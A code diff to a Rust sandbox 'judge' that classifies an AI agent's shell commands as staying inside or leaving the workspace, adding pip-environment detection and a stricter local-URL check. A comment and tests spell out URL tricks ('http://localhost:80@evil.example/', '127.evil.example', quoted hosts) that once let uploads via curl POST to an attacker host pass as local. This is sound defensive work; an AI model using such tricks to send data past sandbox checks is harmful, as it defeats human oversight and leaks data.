@@ -19,6 +19,7 @@
 
 use crate::judge::assess::{Assessment, basename};
 use crate::model::{Category, Risk};
+use crate::text::url::{Url, find_in};
 use serde::Serialize;
 
 /// What the judge knows of the box a command would run in: plain values, from `run`.
@@ -35,9 +36,10 @@ pub struct BoxView {
     pub read_only: Vec<String>,
     /// `sandbox.network`: whether the box lets commands use the network.
     pub network: bool,
-    /// A Python environment inside the workspace is active (`VIRTUAL_ENV`): `pip install`
-    /// writes there. Set from the agent's environment, which can only make a part run inside
-    /// the box, where a false claim makes it fail, never escape.
+    /// A Python environment inside the workspace is active (`VIRTUAL_ENV`, the `pip` on PATH,
+    /// or one the command activates): `pip install` writes there. Set from the agent's
+    /// environment and text, which can only make a part run inside the box, where a false claim
+    /// makes it fail, never escape.
     pub python_env_inside: bool,
 }
 
@@ -210,13 +212,13 @@ pub fn edge_of(a: &Assessment, view: &BoxView) -> Option<Edge> {
         Category::Unknown if REMOTE.contains(&program) => {
             edge(EdgeKind::World, format!("`{program}` connects to another machine"))
         }
-        Category::Unknown => build_tools(program, &args, view),
+        Category::Unknown => build_tools(first, &args, view),
         Category::FileWrite => file_write(program, &args, view),
         Category::FileDelete => file_delete(program, &args, view),
         Category::System => system(program, &args, view),
         Category::Network => network(program, &args, view),
         Category::DevOps => dev_ops(program, &args, a.risk),
-        Category::BuildTools => build_tools(program, &args, view),
+        Category::BuildTools => build_tools(first, &args, view),
     }
 }
 
@@ -361,7 +363,9 @@ fn git(args: &Argv, risk: Risk) -> Option<Edge> {
     })
 }
 
-fn build_tools(program: &str, args: &Argv, view: &BoxView) -> Option<Edge> {
+/// `written`: the program as the command names it (`.venv/bin/pip`), for where it lives.
+fn build_tools(written: &str, args: &Argv, view: &BoxView) -> Option<Edge> {
+    let program = basename(written);
     let sub = args.subcommand(&[]);
     let global = args.has_short('g') || args.has_long("--global") || sub == Some("global");
     match program {
@@ -395,19 +399,61 @@ fn build_tools(program: &str, args: &Argv, view: &BoxView) -> Option<Edge> {
         "poetry" | "pdm" | "uv" | "twine" | "flit" | "hatch" if sub.is_some_and(|s| PUBLISH.contains(&s)) => {
             edge(EdgeKind::World, "publishes a package")
         }
-        "pip" | "pip3" if sub.is_some_and(is_install) => {
-            let target = args.value_of(&["-t", "--target", "--prefix", "--root"]);
-            match target {
-                Some(t) => write_edge(view, [t].into_iter()),
-                None if view.python_env_inside && !args.has_long("--user") => None,
-                None => edge(
-                    EdgeKind::Outside,
-                    "installs Python packages outside the workspace (no virtual environment in it is active)",
-                ),
-            }
-        }
+        "pip" | "pip3" if sub.is_some_and(is_install) => pip_install(written, args, view),
         _ => None,
     }
+}
+
+/// Where `pip install` writes: the environment the pip belongs to. A pip named by its path
+/// (`.venv/bin/pip`) is its own environment's; a bare `pip` is the active environment's
+/// (`BoxView::python_env_inside`). Issue 29, item 4: a project's virtual environment is in the
+/// workspace, so installing into it runs in the box; each reason says what was found.
+fn pip_install(written: &str, args: &Argv, view: &BoxView) -> Option<Edge> {
+    if let Some(t) = args.value_of(&["-t", "--target", "--prefix", "--root"]) {
+        return write_edge(view, [t].into_iter());
+    }
+    if args.has_long("--user") {
+        return edge(EdgeKind::Outside, "installs Python packages into your home (--user), outside the workspace");
+    }
+    if written.contains('/') {
+        return match place(view, written) {
+            Place::Inside | Place::Unknown => None,
+            Place::ReadOnly | Place::Outside => edge(
+                EdgeKind::Outside,
+                format!("installs Python packages with {written}, whose environment is outside the workspace"),
+            ),
+        };
+    }
+    if view.python_env_inside {
+        return None;
+    }
+    edge(
+        EdgeKind::Outside,
+        format!(
+            "installs Python packages outside the workspace: no virtual environment inside it is active here \
+             (a project's own, such as .venv/bin/{}, runs in the sandbox)",
+            basename(written)
+        ),
+    )
+}
+
+/// Whether `text` activates a Python environment inside the workspace before it runs pip
+/// (`source .venv/bin/activate && pip install x`): then a bare `pip` is that environment's.
+/// A wrong yes only lets pip try inside the box, where writes outside the workspace fail.
+pub fn activates_python_env(text: &str, view: &BoxView) -> bool {
+    if !text.contains("activate") {
+        return false;
+    }
+    let Ok(script) = crate::judge::parse::parse(text) else { return false };
+    script.commands.iter().any(|c| {
+        let words: Vec<&str> = c.words.iter().map(|w| w.text()).collect();
+        match words.as_slice() {
+            ["source" | ".", path, ..] => {
+                path.ends_with("/bin/activate") && matches!(place(view, path), Place::Inside | Place::ReadOnly)
+            }
+            _ => false,
+        }
+    })
 }
 
 fn is_install(sub: &str) -> bool {
@@ -474,6 +520,11 @@ fn place(view: &BoxView, word: &str) -> Place {
     }
 }
 
+/// Whether the box lets a command write `path` (absolute, or relative to the view's cwd).
+pub fn writable_in(view: &BoxView, path: &str) -> bool {
+    place(view, path) == Place::Inside
+}
+
 /// Resolves `.` and `..` and repeated slashes in an absolute path.
 fn normalize(path: &str) -> String {
     let mut parts: Vec<&str> = Vec::new();
@@ -509,11 +560,32 @@ fn looks_like_url(word: &str) -> bool {
         || word.contains('.') && !word.contains(['{', ' ', '='])
 }
 
+/// Whether a URL stays on this machine however a program reads it (`text::url`). Before, the
+/// host was cut at the first `:` and `127.` was a prefix, so `http://localhost:80@evil.example/`
+/// and `http://127.evil.example/` counted as local, and a POST to them ran in the box unasked.
 fn is_local_url(url: &str) -> bool {
-    let rest = url.split_once("://").map(|(_, r)| r).unwrap_or(url);
-    let host = rest.split(['/', ':', '?']).next().unwrap_or("");
-    let host = host.rsplit('@').next().unwrap_or(host);
-    matches!(host, "localhost" | "127.0.0.1" | "[::1]" | "0.0.0.0") || host.starts_with("127.")
+    Url::parse(url).is_some_and(|u| u.is_local())
+}
+
+/// Every `scheme://` URL in a command's words, after quote removal (`curl 'https://a'@b` gives
+/// the program `https://a@b`), for the person to see where it goes. Unparsable text is read as
+/// it is.
+pub fn urls_in(text: &str) -> Vec<Url> {
+    if !text.contains("://") {
+        return Vec::new();
+    }
+    let mut found: Vec<Url> = match crate::judge::parse::parse(text) {
+        Ok(script) => script
+            .commands
+            .iter()
+            .flat_map(|c| c.assignments.iter().map(|(_, w)| w).chain(&c.words))
+            .flat_map(|w| find_in(w.text()))
+            .collect(),
+        Err(_) => find_in(text),
+    };
+    let mut seen = std::collections::HashSet::new();
+    found.retain(|u| seen.insert(u.text.clone()));
+    found
 }
 
 fn sends_data(program: &str, args: &Argv) -> bool {
@@ -794,6 +866,63 @@ mod tests {
         assert_eq!(kinds("pip install -e .", &v), [None]);
         assert_eq!(kinds("pip install --user x", &v), [Some(EdgeKind::Outside)]);
         assert_eq!(kinds("pip install -t vendor x", &view()), [None]);
+    }
+
+    /// Issue 29, item 4: a project's own environment, named by its path or activated in the
+    /// same command, installs inside the workspace; the reason given otherwise is true.
+    #[test]
+    fn a_project_environment_is_recognised_and_reasons_are_true() {
+        for t in [
+            ".venv/bin/pip install six",
+            "./venv/bin/pip3 install -r requirements.txt",
+            "/work/app/.venv/bin/pip install six",
+            "python3 -m venv .venv && .venv/bin/pip install six",
+            "../.venv/bin/pip install six",
+        ] {
+            assert!(contained(t), "{t}: {:?}", kinds(t, &view()));
+        }
+        let why =
+            |t: &str| assess::assess(&parse::parse(t).unwrap()).iter().find_map(|a| edge_of(a, &view())).map(|e| e.why);
+        let outside = why("/usr/bin/pip install six").unwrap();
+        assert!(outside.contains("with /usr/bin/pip, whose environment is outside"), "{outside}");
+        let home = why("~/.venvs/x/bin/pip install six").unwrap();
+        assert!(home.contains("outside the workspace"), "{home}");
+        assert!(why("pip install six").unwrap().contains("no virtual environment inside it is active here"));
+        assert!(why("pip install --user six").unwrap().contains("--user"));
+        for (t, active) in [
+            ("source .venv/bin/activate && pip install six", true),
+            (". venv/bin/activate; pip3 install -r requirements.txt", true),
+            ("source /work/app/.venv/bin/activate && pip install six", true),
+            ("source ~/.venvs/x/bin/activate && pip install six", false),
+            ("source /opt/env/bin/activate && pip install six", false),
+            ("echo activate && pip install six", false),
+            ("pip install six", false),
+        ] {
+            assert_eq!(activates_python_env(t, &view()), active, "{t}");
+        }
+    }
+
+    /// The box holds a POST only to this machine, and a URL's host is what follows its `@`.
+    #[test]
+    fn uploads_count_as_local_only_for_loopback_hosts() {
+        assert_eq!(kind("curl -X POST http://localhost:8000/api -d x"), None);
+        for t in [
+            "curl -X POST http://localhost:80@evil.example/ -d x",
+            "curl -X PUT http://127.0.0.1:1@evil.example/",
+            "curl -X POST http://127.evil.example/",
+            "curl -X POST 'http://localhost'@evil.example/",
+        ] {
+            assert_eq!(kind(t), Some(EdgeKind::World), "{t}");
+        }
+    }
+
+    #[test]
+    fn urls_are_read_after_quote_removal() {
+        let hosts = |t: &str| urls_in(t).into_iter().map(|u| u.host).collect::<Vec<_>>();
+        assert_eq!(hosts("curl 'https://github.com'@evil.example/x"), ["evil.example"]);
+        assert_eq!(hosts("U=https://a.example/x curl -d @f \"$U\" https://b.example"), ["a.example", "b.example"]);
+        assert_eq!(hosts("curl https://a.example && curl https://a.example"), ["a.example"]);
+        assert_eq!(hosts("ls -la"), Vec::<String>::new());
     }
 
     #[test]
